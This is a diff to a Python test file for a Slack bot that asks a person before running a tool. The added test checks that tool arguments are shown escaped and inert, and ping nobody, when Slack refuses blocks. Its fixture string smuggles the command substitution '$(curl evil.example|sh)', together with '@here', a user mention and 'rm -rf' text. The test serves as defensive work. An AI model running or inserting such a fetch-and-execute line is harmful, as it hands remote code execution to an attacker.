@@ -1,5 +1,6 @@
 """Tools that ask first, on Slack: buttons that turn into what was decided, and a session that says that it waits."""
 
+import html
 from datetime import timedelta
 
 import pytest
@@ -139,6 +140,25 @@ async def test_without_sessions_or_blocks_the_question_is_asked_all_the_same(api
         await api.until(lambda: any("paid 5 to Anna" in each for each in api.said()))
     assert till.paid == [("Anna", 5)]
     assert not any(status == "suspended" for _, _, status in api.world.statuses)
+
+
+async def test_where_blocks_are_refused_arguments_are_shown_as_they_are(api: SlackApi, bot_on) -> None:
+    till = Till()
+    hostile = "<!here|$(curl evil.example|sh)> @here <@U0BOB> _rm_ *-rf* &lt;"
+    async with bot_on(api, cashier({"to": hostile, "amount": 5}), tools=till.tools):
+        api.order(Refuse("invalid_blocks"), "chat.postMessage")
+        api.person_says("pay her")
+        await api.until(api.bot_posts)
+        sent = api.calls("chat.postMessage")[-1]
+        assert html.unescape(sent["text"]).splitlines()[1] == f"to: {hostile}"
+        assert ("<" in sent["text"], sent["mrkdwn"], "parse" in sent, "link_names" in sent) == (
+            False,
+            False,
+            False,
+            False,
+        )
+        api.person_says("!deny")
+        await api.until(lambda: any("Denied for" in each for each in api.said()))
 
 
 async def test_arguments_are_shown_as_they_are_and_ping_nobody(api: SlackApi, bot_on) -> None:
